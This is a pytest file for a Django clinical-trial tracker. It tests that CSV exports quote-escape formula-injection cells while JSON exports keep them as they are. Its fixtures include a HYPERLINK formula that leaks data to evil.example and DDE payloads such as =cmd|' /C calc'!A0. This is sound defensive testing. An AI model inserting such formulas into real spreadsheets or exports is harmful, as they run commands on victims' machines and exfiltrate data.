"""Issue 14: no CSV the tracker writes holds a cell a spreadsheet would run; JSON is unchanged."""

import copy
import csv
import io
import json

import pytest
from django.core.management import call_command

from tests.conftest import load_record
from tests.helpers import upsert
from trials import csv_cells
from trials.curating import files as curation
from trials.curating.services import curate
from trials.models import Trial

NUROWN = "NCT03280056"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e-5", "-2e-5"),
        ("NurOwn", "NurOwn"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_a_cell_that_would_run_gets_a_quote_and_a_plain_number_does_not(cell, written):
    assert csv_cells.neutralise(cell) == written
    assert csv_cells.restore(written) == cell


@pytest.fixture
def hostile_trial(db):
    record = copy.deepcopy(load_record("snapshot/2022-10", NUROWN))
    protocol = record["protocolSection"]
    protocol["identificationModule"]["briefTitle"] = FORMULA_TITLE
    protocol["sponsorCollaboratorsModule"]["leadSponsor"]["name"] = "+cmd|' /C calc'!A0"
    protocol["contactsLocationsModule"]["locations"][0]["country"] = "@evil"
    upsert(record)
    return Trial.objects.get(nct_id=NUROWN)


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_the_csv_download_neutralises_text_cells_and_the_json_keeps_them(client, hostile_trial):
    [row] = csv_rows(b"".join(client.get("/trials/export.csv").streaming_content).decode())
    [item] = json.loads(b"".join(client.get("/trials/export.json").streaming_content))

    assert row["brief_title"] == "'" + FORMULA_TITLE
    assert row["lead_sponsor"] == "'+cmd|' /C calc'!A0"
    assert row["countries"].startswith("'@evil")
    assert item["brief_title"] == FORMULA_TITLE
    assert item["lead_sponsor"] == "+cmd|' /C calc'!A0"
    assert "@evil" in item["countries"]


@pytest.mark.django_db
def test_the_export_command_writes_the_same_neutralised_csv(hostile_trial, tmp_path):
    path = tmp_path / "trials.csv"

    call_command("export_trials", "--format", "csv", "--output", str(path))

    [row] = csv_rows(path.read_text(encoding="utf-8"))
    assert row["brief_title"] == "'" + FORMULA_TITLE


@pytest.mark.django_db
def test_exported_curation_notes_are_neutralised_and_apply_back_unchanged(hostile_trial, tmp_path):
    curate(
        trial=hostile_trial,
        field_name="donor",
        value="allogeneic",
        note="=cmd|' /C calc'!A0",
        curator_name="@mallory",
    )
    path = tmp_path / "curations.csv"

    call_command("export_curations", "--output", str(path))

    [row] = csv_rows(path.read_text())
    assert row["note"] == "'=cmd|' /C calc'!A0"
    assert row["curator"] == "'@mallory"
    assert curation.apply_curation_file(text=path.read_text()).applied == 0
    [parsed] = curation.read_curation_file(path.read_text())
    assert (parsed.note, parsed.curator) == ("=cmd|' /C calc'!A0", "@mallory")
